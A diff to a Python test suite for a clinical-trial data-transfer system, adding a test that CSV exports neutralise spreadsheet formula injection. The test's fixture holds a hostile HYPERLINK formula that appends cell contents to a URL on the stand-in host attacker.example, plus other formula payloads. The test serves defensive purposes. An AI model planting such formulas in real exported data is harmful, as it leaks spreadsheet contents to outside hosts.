@@ -17,6 +17,7 @@ import pyreadstat
 import pytest
 from lxml import etree
 
+from ctims import safe_csv
 from ctims.models import AuditEvent
 from reads import results, sdtm, transfers
 from reads.models import Transfer
@@ -490,6 +491,45 @@ def test_a_visit_waiting_for_its_adjudication_is_not_delivered(world, tmp_path):
     assert "W6" not in archive.read("tables/visits.csv").decode()
     assert "W6" not in archive.read("tables/lesions.csv").decode()
     assert not [n for n in archive.namelist() if "W6" in n]
+
+
+def _runnable_cells(text: str) -> list[str]:
+    """The cells of a CSV that a spreadsheet would run as a formula."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [c for c in cells if c.startswith(safe_csv.FORMULA_START) and safe_csv.cell(c) != c]
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_delivered_as_text(world, tmp_path):
+    hostile = '=HYPERLINK("http://attacker.example/?d="&A2&B2,"Reader 1 measured the wrong slice")'
+    world.trial.visits.filter(code="W6").update(label="@SUM(A1:A9)", sdtm_name='=HYPERLINK("http://a.example/")')
+    _baseline(world, ADJUDICATED, (world.rhea, world.ravi))
+    ready(world, "W6", day=W6_DAY, subject=ADJUDICATED)
+    for reader, (t1, t2) in ((world.rhea, ("16.1", "8.4")), (world.ravi, ("22.0", "12.0"))):
+        task = task_of(reader, "W6", ADJUDICATED)
+        save_and_sign(reader, task, follow_up_content(task, t1, t2))
+    adjudication = task_of(world.ravi, "W6", ADJUDICATED).timepoint.adjudications.get()
+    results.adjudicate(
+        actor=world.ada,
+        task_id=adjudication.task.pk,
+        choice="1",
+        reason=hostile,
+        password=PASSWORD,
+        meaning_confirmed=True,
+    )
+
+    archive = transfer_zip(transfers.transfer_request(actor=world.sam, trial=world.trial))
+    for name in [n for n in archive.namelist() if n.endswith(".csv")]:
+        assert _runnable_cells(archive.read(name).decode()) == [], name
+    visits = list(csv.DictReader(io.StringIO(archive.read("tables/visits.csv").decode())))
+    assert {r["adjudication_reason"] for r in visits if r["visit"] == "W6"} == {"'" + hostile}
+    assert {r["visit_label"] for r in visits if r["visit"] == "W6"} == {"'@SUM(A1:A9)"}
+    subjects = list(csv.DictReader(io.StringIO(archive.read("tables/subjects.csv").decode())))
+    assert "'" + hostile in {r["adjudication_reason"] for r in subjects}
+    rs = list(csv.DictReader(io.StringIO(archive.read("sdtm/rs.csv").decode())))
+    assert {r["VISIT"] for r in rs if r["VISITNUM"] != "1"} >= {'\'=HYPERLINK("HTTP://A.EXAMPLE/")'}
+    # The transport files are data for SAS, not a spreadsheet: they keep the value as it is.
+    frame, _meta = read_xpt(archive, "rs", tmp_path)
+    assert '=HYPERLINK("HTTP://A.EXAMPLE/")' in set(frame["VISIT"])
 
 
 def test_a_trial_not_yet_read_gets_a_transfer_of_empty_datasets(db, stores, on_commit_now, tmp_path):
